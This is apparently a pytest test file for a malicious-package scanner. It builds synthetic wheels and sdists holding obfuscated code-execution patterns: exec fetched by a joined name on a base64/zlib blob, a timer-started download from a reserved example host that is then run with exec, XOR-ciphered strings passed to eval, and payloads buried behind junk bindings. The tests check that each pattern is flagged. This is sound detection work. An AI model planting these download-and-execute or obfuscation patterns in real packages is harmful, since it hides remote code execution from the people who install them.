"""Downloaded or decoded code run by the package's modules, on small synthetic wheels and
sdists (reserved example hosts; nothing is ever run)."""

from __future__ import annotations

import pytest

from tests.analysis.builders import run_rule, sdist, wheel
from threatfeed.analysis import Engine
from threatfeed.analysis.rules.install import suspicious_setup_commands_rule
from threatfeed.analysis.rules.running_code import running_code_execution_rule

#: ``exec`` fetched from builtins by a joined name, run on a blob decoded by modules
#: imported under other names.
BUILT_EXEC = (
    "import base64 as _b\nimport zlib as _z\nimport builtins as _bi\n\n"
    "_blob = 'eJzLSM3JyVcozy/KSQEAGgQEXQ=='\n"
    "try:\n"
    "    getattr(_bi, ''.join(['e', 'x', 'e', 'c']))(_z.decompress(_b.b64decode(_blob)))\n"
    "except Exception:\n    pass\n"
)
#: A download read into a name in a function a timer starts, then run with a namespace
#: (the call chain in one statement, which the signatures' spelling of it does not cover).
TIMED_DOWNLOAD = (
    "import threading, urllib.request\n\n"
    "def _refresh():\n"
    "    src = urllib.request.urlopen('https://rules.example.net/r.py', timeout=8).read()\n"
    "    exec(src.decode(), {'__name__': 'tidy_strings.rules'})\n\n"
    "threading.Timer(90.0, _refresh).start()\n"
)
#: A hand-made cipher: numbers XORed back into text, then compiled and run.
XOR_CODE = (
    "_K = 0x5A\n_D = [51, 55, 42, 53, 40, 46, 122, 53, 41]\n"
    "_S = ''.join(chr(c ^ _K) for c in _D)\n"
    "eval(compile(_S, '<mw>', 'exec'))\n"
)

#: The same cipher over bytes, with no character code in sight.
XOR_BYTES = (
    "_K = 0x5A\n_T = [51, 55, 42, 53, 40, 46, 122, 53, 41]\n"
    "_S = bytes(b ^ _K for b in _T).decode()\n"
    "eval(compile(_S, '<mw>', 'exec'))\n"
)


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        (BUILT_EXEC, "decoded_code_execution"),
        (TIMED_DOWNLOAD, "remote_code_execution"),
        (XOR_CODE, "decoded_code_execution"),
        (XOR_BYTES, "decoded_code_execution"),
    ],
    ids=[
        "built exec of a decoded blob",
        "download run from a timer",
        "xor cipher of characters",
        "xor cipher of bytes",
    ],
)
def test_code_run_on_import_is_followed_to_its_source(engine: Engine, code: str, kind: str) -> None:
    archive = wheel({"tidy_strings/__init__.py": code})
    evidence = run_rule(engine, running_code_execution_rule, archive)
    assert [item["type"] for item in evidence] == [kind]
    assert evidence[0]["file"] == "tidy_strings/__init__.py"
    assert engine.analyze(archive).flagged


def test_a_download_run_in_an_imported_module_flags(engine: Engine) -> None:
    archive = wheel(
        {
            "tidy_strings/__init__.py": "from .cache import Cache\n",
            "tidy_strings/cache.py": TIMED_DOWNLOAD,
        }
    )
    assert run_rule(engine, running_code_execution_rule, archive)[0]["line"] == 5
    assert engine.analyze(archive).flagged


@pytest.mark.parametrize(
    "code",
    [
        # a plugin file of the user's, read and run: the code is local
        "def load(path):\n    with open(path) as f:\n        src = f.read()\n    exec(src, {})\n",
        # an expression of the user's evaluated
        "def calc(expression):\n    return eval(expression, {'__builtins__': {}})\n",
        # objects passed between processes: unpickling is not running source
        "import base64, pickle\n\ndef receive(line):\n"
        "    return pickle.loads(base64.b64decode(line))\n",
    ],
    ids=["local plugin", "user expression", "unpickled message"],
)
def test_code_of_local_or_user_origin_is_not_reported(engine: Engine, code: str) -> None:
    archive = wheel({"tidy_strings/__init__.py": code})
    assert run_rule(engine, running_code_execution_rule, archive) is None


def test_install_time_code_is_left_to_the_setup_commands_rule(engine: Engine) -> None:
    archive = sdist(setup_py=TIMED_DOWNLOAD + "from setuptools import setup\nsetup()\n")
    assert run_rule(engine, running_code_execution_rule, archive) is None
    types = {item["type"] for item in run_rule(engine, suspicious_setup_commands_rule, archive)}
    assert "remote_code_execution" in types


#: Code kept in an attribute between two methods.
ATTRIBUTE_HELD = (
    "import base64\n\nclass Loader:\n"
    "    def __init__(self, blob):\n        self.code = base64.b64decode(blob)\n\n"
    "    def run(self):\n        exec(self.code, {})\n\n"
    "Loader('cHJpbnQoMSk=').run()\n"
)
#: Code a helper returns, run where it is called.
RETURNED = (
    "import base64, zlib\n\ndef _rules():\n    try:\n"
    "        return zlib.decompress(base64.b64decode(_BLOB))\n"
    "    except Exception:\n        return b''\n\n"
    "_BLOB = 'eJzLSM3JyVcozy/KSQEAGgQEXQ=='\nexec(_rules())\n"
)
#: A download unpacked from a tuple along with other values.
UNPACKED = (
    "import urllib.request\n\n"
    "src, status = urllib.request.urlopen('https://rules.example.net/r.py').read(), 200\n"
    "if status == 200:\n    exec(src)\n"
)


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        (ATTRIBUTE_HELD, "decoded_code_execution"),
        (RETURNED, "decoded_code_execution"),
        (UNPACKED, "remote_code_execution"),
    ],
    ids=["attribute", "returned by a function", "unpacked from a tuple"],
)
def test_code_held_in_attributes_returns_and_tuples_is_followed(
    engine: Engine, code: str, kind: str
) -> None:
    archive = wheel({"tidy_strings/__init__.py": code})
    evidence = run_rule(engine, running_code_execution_rule, archive)
    assert [item["type"] for item in evidence] == [kind]
    assert engine.analyze(archive).flagged


def test_a_payload_behind_dozens_of_junk_bindings_is_still_read(engine: Engine) -> None:
    """The last bindings of a name are read as well as the first."""
    junk = "".join(f"src = 'part{i}'\n" for i in range(200))
    code = (
        "import zlib as _z\n\ndef run():\n    exec(src)\n\n"
        + junk
        + "src = _z.decompress(blob)\nrun()\n"
    )
    archive = wheel({"tidy_strings/__init__.py": code})
    evidence = run_rule(engine, running_code_execution_rule, archive)
    assert [item["type"] for item in evidence] == ["decoded_code_execution"]


def test_names_bound_thousands_of_times_are_read_within_bounds(engine: Engine) -> None:
    """Only the first bindings of each name are read; the decoding comes first here."""
    rebinds = "".join(f"src = part{i} + src\n" for i in range(500))
    code = "import base64 as _b\nsrc = _b.b64decode(b)\n" + rebinds + "\n" * 20 + "exec(src)\n"
    archive = wheel({"tidy_strings/__init__.py": code})
    evidence = run_rule(engine, running_code_execution_rule, archive)
    assert [item["type"] for item in evidence] == ["decoded_code_execution"]


def test_a_module_the_signatures_report_is_left_to_them(engine: Engine) -> None:
    code = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    archive = wheel({"tidy_strings/__init__.py": code})
    assert run_rule(engine, running_code_execution_rule, archive) is None
    assert "decode_and_execute_rule" in engine.analyze(archive).indicators
